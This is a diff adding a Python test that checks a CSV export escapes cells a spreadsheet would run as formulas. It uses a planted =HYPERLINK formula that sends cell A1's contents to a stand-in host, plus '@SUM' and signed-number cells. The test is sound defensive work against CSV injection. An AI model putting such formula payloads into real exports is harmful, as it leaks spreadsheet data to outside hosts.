@@ -117,3 +117,19 @@ def test_pdf_of_no_row(tmp_path: Path) -> None:
     path = write_pdf(tmp_path / "vide.pdf", "Rien", ["A"], [])
     _reader, text = _text(path)
     assert "Aucune ligne." in text
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_guarded(tmp_path: Path) -> None:
+    """Issue 15: the Récap CSV never hands a formula to the spreadsheet (as the server's)."""
+    from cesp_core.imports import to_csv
+
+    planted = '=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")'
+    rows = [["ASP-2026-000003", planted, "+33 1 23"], ["ASP-2026-000004", "@SUM(A1)", "-2"]]
+    path = write_csv(tmp_path / "recap.csv", COLUMNS, rows)
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        lines = list(csv.reader(handle, delimiter=";"))
+    assert lines[1] == ["ASP-2026-000003", "'" + planted, "'+33 1 23"]
+    assert lines[2] == ["ASP-2026-000004", "'@SUM(A1)", "'-2"]
+    # the same guard as the server's export
+    server = to_csv([{"a": planted}], ["a"]).splitlines()[1]
+    assert next(csv.reader([server], delimiter=";")) == ["'" + planted]
